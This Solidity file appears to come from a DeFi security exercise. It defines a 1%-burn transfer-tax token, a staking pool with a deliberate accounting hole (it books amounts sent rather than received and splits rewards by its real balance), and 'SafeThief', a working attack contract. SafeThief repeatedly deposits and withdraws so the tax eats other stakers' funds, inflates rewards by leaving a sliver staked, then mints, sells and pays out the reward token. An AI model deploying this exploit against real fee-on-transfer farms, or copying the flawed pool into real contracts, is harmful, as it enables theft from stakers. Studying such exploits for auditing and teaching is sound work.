// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// Burns a hundredth of every transfer, rounded up.
contract TaxToken is Token {
    constructor() Token("PLX", 18) {}

    function _move(address from, address to, uint256 value) internal override {
        uint256 burnt = (value + 99) / 100;
        super._move(from, to, value - burnt);
        _burn(from, burnt);
    }
}

/// Gives its own dollar to who stakes. It books what was sent, not what arrived, and shares rewards by what it holds.
contract SafePool {
    struct User {
        uint256 amount;
        uint256 debt;
    }

    Token public immutable sdo;
    Token public immutable plx;
    uint256 public immutable perSecond;
    uint256 public perShare;
    uint256 public lastReward;
    uint256 public totalStaked;
    mapping(address => User) public users;

    event Deposit(address indexed user, uint256 amount);
    event Withdraw(address indexed user, uint256 amount);
    event RewardPaid(address indexed user, uint256 amount);

    constructor(Token sdo_, Token plx_, uint256 perSecond_) {
        (sdo, plx, perSecond, lastReward) = (sdo_, plx_, perSecond_, block.timestamp);
    }

    function deposit(uint256 amount) external {
        update();
        User storage user = users[msg.sender];
        pay(user);
        if (amount > 0) plx.transferFrom(msg.sender, address(this), amount);
        user.amount += amount;
        totalStaked += amount;
        user.debt = user.amount * perShare / 1e18;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        update();
        User storage user = users[msg.sender];
        pay(user);
        user.amount -= amount;
        totalStaked -= amount;
        user.debt = user.amount * perShare / 1e18;
        plx.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function pay(User storage user) private {
        uint256 due = user.amount * perShare / 1e18 - user.debt;
        if (due == 0) return;
        sdo.mint(msg.sender, due);
        emit RewardPaid(msg.sender, due);
    }

    function update() private {
        uint256 held = plx.balanceOf(address(this));
        if (held > 0) perShare += (block.timestamp - lastReward) * perSecond * 1e18 / held;
        lastReward = block.timestamp;
    }

    /// What is staked by the books, in hundredths of what is really there.
    function bookedOverHeld() external view returns (uint256) {
        uint256 held = plx.balanceOf(address(this));
        return held == 0 ? 100 : totalStaked * 100 / held;
    }
}

/// Goes in and out until the tax has eaten what others staked, stays with a little, and is the only one to be paid.
contract SafeThief {
    function grind(SafePool farm, Pool pool, uint256 rounds, uint256 kept) external payable {
        Token plx = farm.plx();
        Shop.buy(pool, msg.value);
        plx.approve(address(farm), type(uint256).max);
        for (uint256 i = 0; i < rounds; i++) {
            uint256 mine = plx.balanceOf(address(this));
            (uint256 booked,) = farm.users(address(this));
            farm.deposit(mine);
            uint256 held = plx.balanceOf(address(farm));
            uint256 most = booked + mine - kept;
            // Never quite everything: a thousandth of a token has to be there to share rewards by.
            farm.withdraw(most < held ? most : held - 1e15);
        }
        Shop.sellAll(pool, plx);
    }

    function reap(SafePool farm, Pool market, uint256 sold, address payable payee) external {
        farm.deposit(0);
        Token sdo = farm.sdo();
        sdo.approve(address(market), sold);
        market.sell(sdo, sold, payee);
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}
